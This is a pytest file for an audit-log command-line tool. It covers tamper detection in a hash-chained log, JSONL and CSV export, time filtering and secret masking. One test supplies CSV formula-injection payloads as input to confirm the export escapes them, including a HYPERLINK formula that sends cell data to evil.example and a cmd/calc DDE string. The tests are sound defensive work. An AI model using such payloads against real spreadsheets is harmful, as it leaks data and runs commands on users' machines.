"""`agentops audit verify` and `agentops audit export` as a user runs them (real subprocesses) against a store on
SQLite and on PostgreSQL, before and after the log is changed directly in SQL (triggers dropped first, as an
attacker with DDL rights would)."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from itertools import pairwise
from pathlib import Path

import pytest

from bot.store import Store, open_store
from tests.helpers.audit import documented_hash, record_entries, tamper
from tests.helpers.processes import agentops


@pytest.fixture
def store(store_url: str) -> Iterator[Store]:
    store = open_store(store_url)
    yield store
    store.close()


def audit(store_url: str, cwd: Path, *args: str):  # type: ignore[no-untyped-def]
    return agentops("audit", *args, cwd=cwd, DATABASE_URL=store_url)


def test_verify_passes_then_names_the_edited_entry(store: Store, store_url: str, now: datetime,
                                                   tmp_path: Path) -> None:
    record_entries(store, now)
    intact = audit(store_url, tmp_path, "verify")
    head = list(store.audit.chained())[-1].entry_hash
    assert intact.returncode == 0, intact.stderr
    assert intact.stdout.strip() == f"audit log intact: 6 entries, chain head {head}"
    tamper(store.engine, "UPDATE audit_log SET subject = 'INC-2026-1121-9999' WHERE id = 3")
    edited = audit(store_url, tmp_path, "verify")
    assert edited.returncode == 1 and "Traceback" not in edited.stderr
    assert edited.stdout.startswith("audit log broken at entry 3 (2026-11-21 12:02:00 UTC, approval.requested): "
                                    "edited: its hash does not match its contents")
    assert "2 entries before it are intact" in edited.stdout


def test_verify_names_the_entry_after_a_deleted_one(store: Store, store_url: str, now: datetime,
                                                    tmp_path: Path) -> None:
    record_entries(store, now)
    tamper(store.engine, "DELETE FROM audit_log WHERE id = 2")
    deleted = audit(store_url, tmp_path, "verify")
    assert deleted.returncode == 1, deleted.stderr
    assert deleted.stdout.startswith("audit log broken at entry 3 (2026-11-21 12:02:00 UTC, approval.requested): "
                                     "deleted: its prev hash")
    assert "was deleted" in deleted.stdout and "1 entry before it is intact" in deleted.stdout


def test_export_jsonl_rehashes_line_by_line(store: Store, store_url: str, now: datetime, tmp_path: Path) -> None:
    record_entries(store, now)
    result = audit(store_url, tmp_path, "export")
    assert result.returncode == 0, result.stderr
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert [e["id"] for e in lines] == [1, 2, 3, 4, 5, 6]
    assert result.stderr.strip() == "agentops: exported 6 audit entries"
    for e in lines:
        moment = datetime.fromisoformat(e["at"]).replace(tzinfo=None)
        assert e["entry_hash"] == documented_hash(e["prev_hash"], moment, e["actor"], e["action"], e["subject"],
                                                  e["outcome"], e["details"], e["channel"], e["message_ts"])
    assert all(b["prev_hash"] == a["entry_hash"] for a, b in pairwise(lines))


def test_export_since_takes_a_time_or_how_far_back(store: Store, store_url: str, tmp_path: Path) -> None:
    now = datetime.now(UTC).replace(microsecond=0)
    for days in (10, 3, 0):
        store.audit.record(actor="agentops", action="alert.posted", subject=f"{days}d ago", outcome="ok",
                           now=now - timedelta(days=days))
    week = audit(store_url, tmp_path, "export", "--since", "7d")
    assert [json.loads(line)["subject"] for line in week.stdout.splitlines()] == ["3d ago", "0d ago"]
    since = (now - timedelta(days=4)).strftime("%Y-%m-%dT%H:%M:%S+00:00")
    assert len(audit(store_url, tmp_path, "export", "--since", since).stdout.splitlines()) == 2
    bad = audit(store_url, tmp_path, "export", "--since", "last tuesday")
    assert bad.returncode == 2 and "Traceback" not in bad.stderr
    assert "give an ISO date or time (2026-11-01, 2026-11-01T09:00:00Z) or how far back (7d, 12h)" in bad.stderr


def test_export_csv_is_quoted_and_safe_in_a_spreadsheet(store: Store, store_url: str, now: datetime,
                                                        tmp_path: Path) -> None:
    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2", "@SUM(A1:A9)",
               'comma, "quote"\nand a newline']
    for i, text in enumerate(hostile):
        store.audit.record(actor="U0EVIL", action="approval.decide", subject=text, outcome="refused",
                           now=now + timedelta(seconds=i), details={"note": text})
    result = audit(store_url, tmp_path, "export", "--format", "csv")
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO(result.stdout, newline="")))
    assert rows[0] == ["id", "at", "actor", "action", "subject", "outcome", "details", "channel", "message_ts",
                       "prev_hash", "entry_hash"]
    subjects = [r[4] for r in rows[1:]]
    assert subjects == ["'" + t for t in hostile[:4]] + [hostile[4]]
    assert [json.loads(r[6])["note"] for r in rows[1:]] == hostile  # details: JSON that starts with {, kept as is
    assert [r[10] for r in rows[1:]] == [e.entry_hash for e in store.audit.chained()]


def test_export_masks_a_configured_secret(store: Store, store_url: str, now: datetime, tmp_path: Path) -> None:
    token = "xoxb-0000-not-a-real-token"
    store.audit.record(actor="agentops", action="slack.post", subject="C0ALERTS", outcome="failed", now=now,
                       details={"error": f"invalid_auth for {token}"})
    for fmt in ("jsonl", "csv"):
        result = agentops("audit", "export", "--format", fmt, cwd=tmp_path, DATABASE_URL=store_url,
                          SLACK_BOT_TOKEN=token)
        assert result.returncode == 0, result.stderr
        assert token not in result.stdout and "invalid_auth for ***" in result.stdout
